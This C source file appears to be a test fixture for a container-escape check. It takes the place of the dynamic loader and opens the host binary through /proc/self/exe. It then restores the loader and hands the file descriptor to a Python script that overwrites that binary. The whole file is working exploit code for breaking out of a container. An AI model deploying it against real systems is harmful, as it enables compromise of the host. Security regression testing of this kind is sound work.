/* What a client puts in the place of INTERPRETER, by which the kernel starts whatever is linked
 * with libraries: keeps the program that it was to start open, puts the right one back and hands
 * the file to overwrite.py. It stands alone (-nostdlib -static-pie -Wl,-e,begin), for it is run
 * without libraries. */
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>

#ifndef INTERPRETER /* else this machine's own: see threats.bats */
#define INTERPRETER "/lib64/ld-linux-x86-64.so.2"
#endif

void begin(void);

static long call(long number, long a, long b, long c, long d)
{
#ifdef __x86_64__
	register long fourth __asm__("r10") = d;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
			 : "rcx", "r11", "memory");
	return result;
#else
	register long first __asm__("x0") = a;
	register long second __asm__("x1") = b;
	register long third __asm__("x2") = c;
	register long fourth __asm__("x3") = d;
	register long name __asm__("x8") = number;

	__asm__ volatile("svc 0"
			 : "+r"(first)
			 : "r"(second), "r"(third), "r"(fourth), "r"(name)
			 : "memory");
	return first;
#endif
}

#ifdef __x86_64__
__attribute__((force_align_arg_pointer)) /* the kernel calls nobody */
#endif
void begin(void)
{
	char digit[2] = {0};
	const char *arguments[] = {"python3", "/~/src/overwrite.py", digit, NULL};
	const char *environment[] = {NULL};

	digit[0] = (char)('0' + call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0));
	(void)call(SYS_renameat2, AT_FDCWD, (long)"/interpreter", AT_FDCWD, (long)INTERPRETER);
	(void)call(SYS_execve, (long)"/usr/bin/python3", (long)arguments, (long)environment, 0);
	(void)call(SYS_exit_group, 1, 0, 0, 0);
}
